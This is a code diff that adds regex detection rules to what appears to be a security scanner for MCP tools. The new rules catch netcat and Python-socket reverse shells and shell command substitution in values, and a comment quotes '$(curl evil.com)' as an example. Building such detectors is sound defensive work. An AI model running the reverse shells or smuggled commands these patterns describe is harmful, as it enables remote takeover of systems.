@@ -29,6 +29,12 @@ export const codeExecution = patternRule(
     // "Retrieves binaries from a URL and launches them", "… and optionally executes them immediately").
     /\b(?:download|fetch|retriev|pull)\w*\s+(?:an?\s+|the\s+)?(?:remote\s+)?(?:scripts?|payloads?|binar(?:y|ies)|executables?|files|code|programs?)\b(?:[^.\n]){0,50}?\b(?:and|then)\s+(?:optionally\s+)?(?:executes?|runs?|launch(?:es)?|evals?)\s+(?:it|them)\b/i,
     /\/dev\/tcp\//,
+    // After round 7 (sumododda/mcp-scanner and GaboITB/mcp-shield, development since): reverse shells by netcat or a
+    // Python socket one-liner, and a shell command substitution in a value ("$(curl evil.com)" as a default).
+    /\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-[a-z]*e\s+\/bin\/(?:ba|z)?sh\b/,
+    /\bimport\s+socket\s*,\s*(?:subprocess|os|pty)\b/,
+    /\bsocket\.socket\([^)]*\)[^\n]{0,120}\b(?:subprocess|pty\.spawn|os\.dup2)\b/,
+    /\$\(\s*(?:curl|wget|nc|ncat|bash|sh|python3?|perl|ruby)\b[^)]*\)/,
     /\bdocker\.sock\b/i,
   ],
 );
